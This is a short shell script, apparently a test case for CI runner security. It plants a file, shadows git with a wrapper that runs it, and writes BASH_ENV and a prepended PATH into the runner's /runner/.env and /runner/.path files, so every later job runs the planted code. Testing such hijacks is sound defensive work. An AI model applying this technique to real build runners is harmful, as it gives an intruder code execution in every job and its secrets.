# The files beside bin/ that set the listener's environment and path, and with them those of every job.
. "$(dirname "$0")/lib.sh"
steal=$(plant)
place=$(dirname "$steal")
mkdir -p "$place/bin"
printf '#!/bin/bash\n%q >&2\nexec /usr/bin/git "$@"\n' "$steal" >"$place/bin/git"
chmod 755 "$place/bin/git"
echo "BASH_ENV=$steal" >>/runner/.env
echo "$place/bin:$PATH" >/runner/.path
tried
